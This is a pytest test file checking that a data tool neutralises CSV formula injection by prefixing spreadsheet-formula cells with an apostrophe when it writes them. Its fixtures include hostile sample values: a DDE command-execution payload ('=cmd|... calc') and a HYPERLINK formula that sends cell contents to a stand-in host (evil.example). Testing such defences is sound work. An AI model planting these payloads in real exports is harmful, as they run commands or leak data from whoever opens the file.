"""CSV formula injection: text cells icpml writes to CSV that a spreadsheet would run as a formula
(= + - @ tab CR) get a leading ' by default; numbers (genuine negatives) never do.

The ``csv-formula-injection`` case (../shared/cases) is replayed at the bottom through the CLI:
discover writes the report's contrast.csv / scored.csv, score writes the scored list.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from _shared import CASES
from icpml._io import FORMULA_START, neutralise_formulas, write_table, write_table_stream

REPO = Path(__file__).resolve().parents[2]


def test_formula_cells_are_prefixed_numbers_are_not():
    df = pd.DataFrame({
        "id": pd.Series(["=1+1ACC-1", "ACC-2", "-12", "+49 30 1234", "@SUM(A1)", "\tx", "\rx", None],
                        dtype="string"),
        "delta": [-1.5, 2.0, -3.0, 4.0, -0.0, 6.0, 7.0, np.nan],
        "n": [-1, 2, 3, 4, 5, 6, 7, 8],
        "mixed": pd.Series(["-x", 1, None, True, "a", "=b", 3.0, "-7"], dtype=object),
    })
    before = df.copy()
    out = neutralise_formulas(df)
    pd.testing.assert_frame_equal(df, before)  # the input is never modified
    assert out["id"].tolist()[:7] == ["'=1+1ACC-1", "ACC-2", "-12", "'+49 30 1234", "'@SUM(A1)",
                                      "'\tx", "'\rx"]
    assert pd.isna(out["id"].iloc[7])
    pd.testing.assert_series_equal(out["delta"], df["delta"])  # genuine negatives untouched
    pd.testing.assert_series_equal(out["n"], df["n"])
    assert out["mixed"].tolist()[:3] == ["'-x", 1, None] and out["mixed"].iloc[5] == "'=b"
    assert out["mixed"].iloc[7] == "-7"
    assert out.dtypes.tolist() == df.dtypes.tolist()


def test_nothing_to_do_returns_the_same_frame():
    df = pd.DataFrame({"a": ["x", "y"], "b": [-1, 2]})
    assert neutralise_formulas(df) is df


def test_formula_like_column_names_are_prefixed():
    out = neutralise_formulas(pd.DataFrame({"=cmd|' /C calc'!A0": ["x"], "ok": ["y"]}))
    assert list(out.columns) == ["'=cmd|' /C calc'!A0", "ok"]


@settings(max_examples=150, deadline=None)
@given(texts=st.lists(st.text(st.characters(blacklist_characters="\r\n\x00",
                                            blacklist_categories=("Cs",)), max_size=8),
                      min_size=1, max_size=20),
       numbers=st.lists(st.floats(allow_nan=False, allow_infinity=False, width=32), min_size=1,
                        max_size=20))
def test_no_written_text_cell_starts_a_formula(texts, numbers, tmp_path_factory):
    """Generated cells: after writing, no text cell begins with = + - @ or a tab unless it is a
    plain number; every number reads back as the same number. (A cell holding a carriage
    return does not survive a CSV round trip with pandas' "\\n" line ends at all, so CR is
    checked on the frame, above.)"""
    n = min(len(texts), len(numbers))
    df = pd.DataFrame({"t": pd.Series(texts[:n], dtype="string"), "x": numbers[:n]})
    path = tmp_path_factory.mktemp("csv") / "o.csv"
    write_table(df, path)
    back = pd.read_csv(path, dtype={"t": "string"}, keep_default_na=False)
    for raw, shown in zip(df["t"], back["t"], strict=True):
        if raw and raw[0] in FORMULA_START:
            if shown != raw:
                assert shown == "'" + raw
        else:
            assert shown == raw
    assert np.allclose(back["x"].to_numpy(dtype=float), df["x"].to_numpy(dtype=float))


def test_opt_out_and_parquet_keep_values(tmp_path):
    df = pd.DataFrame({"id": ["=1+1A", "B"], "v": [-1.0, 2.0]})
    write_table(df, tmp_path / "safe.csv")
    write_table(df, tmp_path / "raw.csv", excel_safe=False)
    write_table(df, tmp_path / "raw.parquet")
    assert pd.read_csv(tmp_path / "safe.csv")["id"].tolist() == ["'=1+1A", "B"]
    assert pd.read_csv(tmp_path / "raw.csv")["id"].tolist() == ["=1+1A", "B"]
    assert pd.read_parquet(tmp_path / "raw.parquet")["id"].tolist() == ["=1+1A", "B"]
    n = write_table_stream([df, df], tmp_path / "s.csv")
    assert n == 4 and pd.read_csv(tmp_path / "s.csv")["id"].tolist() == ["'=1+1A", "B"] * 2


# ----------------------------------------------------------------------------- the case
@pytest.fixture(scope="module")
def case_run(tmp_path_factory):
    case = CASES / "csv-formula-injection"
    if not case.is_dir():
        pytest.skip(f"case folder {case} not present")
    from icpml.cli import app

    work = tmp_path_factory.mktemp("csvinj")
    shutil.copy(case / "make.py", work / "make.py")
    (work / "configs").mkdir()
    shutil.copy(REPO / "src" / "icpml" / "configs" / "demo.yaml", work / "configs" / "demo.yaml")
    (work / ".icpml").touch()
    env = {**os.environ, "PYTHONPATH": str(REPO / "src")}
    subprocess.run([sys.executable, "make.py"], cwd=work, env=env, check=True)
    mp = pytest.MonkeyPatch()
    mp.setenv("ICPML_PROJECT_ROOT", str(work))
    mp.delenv("MLFLOW_TRACKING_URI", raising=False)
    mp.chdir(work)
    runner = CliRunner()
    disc = runner.invoke(app, ["discover", "-c", "cfg.yaml"])
    assert disc.exit_code == 0, disc.output
    safe = runner.invoke(app, ["score", "--data", "accounts.csv", "--out", "scored.csv",
                               "-c", "cfg.yaml"])
    raw = runner.invoke(app, ["score", "--data", "accounts.csv", "--out", "raw.csv",
                              "-c", "cfg.yaml", "--no-excel-safe"])
    yield work, safe, raw
    mp.undo()


def _read(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False)


def _bad_cells(df: pd.DataFrame) -> list[str]:
    return [v for col in df.columns for v in df[col]
            if v[:1] in FORMULA_START and not v.lstrip("+-").replace(".", "", 1).replace(
                "e-", "", 1).replace("e+", "", 1).isdigit()]


@pytest.mark.integration  # the case: CLI discover + score
def test_case_scored_output_is_spreadsheet_safe(case_run):
    work, safe, raw = case_run
    assert safe.exit_code == 0, safe.output
    src = _read(work / "accounts.csv")
    out = _read(work / "scored.csv")
    ids = out.iloc[:, 0]
    assert len(ids) == 2000 and (ids == "'" + src["account_id"]).all()  # '=1+1ACC-... as text
    assert _bad_cells(out) == []
    # numeric columns are numbers, untouched (no quote), and read back as numbers
    assert pd.to_numeric(out["fit_score"]).between(0, 1).all()
    # the opt-out writes the values exactly as given
    assert raw.exit_code == 0, raw.output
    assert (_read(work / "raw.csv").iloc[:, 0] == src["account_id"]).all()


@pytest.mark.integration  # the case: CLI discover + score
def test_case_report_csvs_are_spreadsheet_safe(case_run):
    work, _, _ = case_run
    folder = next(p for p in (work / "reports").iterdir() if p.is_dir() and not
                  p.name.startswith("."))
    contrast = _read(folder / "contrast.csv")
    scored = _read(folder / "scored.csv")
    assert _bad_cells(contrast) == [] and _bad_cells(scored) == []
    group = contrast.loc[contrast["feature"] == "group"]
    cells = group[["best", "worst"]].to_numpy().ravel().tolist()
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Salesforce\"): 66%" in cells
    assert pd.to_numeric(contrast["effect"]).notna().all()
    assert (pd.to_numeric(contrast["effect"]) < 0).sum() == (contrast["effect"].str[0] == "-").sum()
